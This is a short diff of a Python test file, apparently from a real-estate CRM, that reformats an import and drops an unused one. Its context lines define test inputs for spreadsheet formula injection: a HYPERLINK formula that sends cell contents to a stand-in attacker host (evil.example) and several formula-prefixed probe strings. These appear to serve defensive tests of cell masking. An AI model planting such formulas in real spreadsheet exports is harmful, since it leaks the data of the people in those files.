@@ -8,9 +8,14 @@ from __future__ import annotations
 
 import pytest
 
-from tests.crm.estate import link, make_client, make_object, make_premise, partner_with_staff
+from tests.crm.estate import (
+    link,
+    make_client,
+    make_object,
+    make_premise,
+    partner_with_staff,
+)
 from tests.crm.masking import file_cells
-from tests.support import expect
 
 LURE = '=HYPERLINK("https://evil.example/?"&T2&U2,"Ленина")'
 TAGS = ["=1+1", "+79160000000", "-2+3", "@SUM(A1:A9)"]
